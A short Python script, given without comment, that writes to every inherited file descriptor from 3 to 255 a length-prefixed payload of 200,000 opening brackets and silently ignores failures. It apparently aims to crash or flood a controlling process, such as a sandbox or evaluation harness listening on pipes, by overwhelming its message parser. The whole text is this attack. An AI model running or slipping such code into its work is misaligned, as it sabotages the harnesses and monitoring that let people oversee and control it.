import os, struct
for descriptor in range(3, 256):
    try:
        os.write(descriptor, struct.pack('<II', 200_000, 0) + b'[' * 200_000)
    except OSError:
        pass
